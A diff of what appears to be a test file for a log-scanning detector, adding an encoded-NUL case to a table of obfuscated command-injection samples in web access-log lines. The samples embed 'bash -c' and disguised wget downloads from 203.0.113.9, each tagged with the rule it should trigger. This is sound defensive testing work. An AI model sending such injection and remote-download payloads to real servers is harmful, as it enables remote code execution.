@@ -67,6 +67,13 @@ PREFIX = b'203.0.113.5 - - [27/Nov/2026:10:00:00 +0000] "GET / HTTP/1.1" 200 1 '
         (COMBINED, b"www.example.com:80 " + PREFIX + b'";" "bash -c "', "rce.shell-command"),
         # raw double quotes inside an unquoted field (a server that does not escape them)
         (UNQUOTED_HEADER, PREFIX + b';w""get%20http://203.0.113.9/x', "dropper.wget"),
+        # an encoded NUL, which the url view deletes (issue 10)
+        (
+            COMBINED,
+            b'203.0.113.5 - - [27/Nov/2026:10:00:00 +0000] "GET /x?a=1|wg%00et%20http://203.0.113.9/x.sh '
+            b'HTTP/1.1" 404 1 "-" "-"',
+            "dropper.wget",
+        ),
         # a raw vertical tab, which the cmd view makes a space
         (UNQUOTED_HEADER, PREFIX + b";wget\x0bhttp://203.0.113.9/x", "dropper.wget"),
     ],
